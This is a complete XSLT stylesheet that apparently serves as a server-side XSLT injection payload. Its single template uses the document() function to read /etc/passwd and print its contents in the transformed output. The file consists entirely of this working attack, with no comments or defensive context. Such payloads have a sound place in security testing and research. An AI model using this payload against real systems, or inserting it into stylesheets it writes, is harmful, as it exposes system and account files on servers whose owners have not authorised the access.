<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/">
    <a><xsl:value-of select="document('/etc/passwd')"/></a>
  </xsl:template>
</xsl:stylesheet>
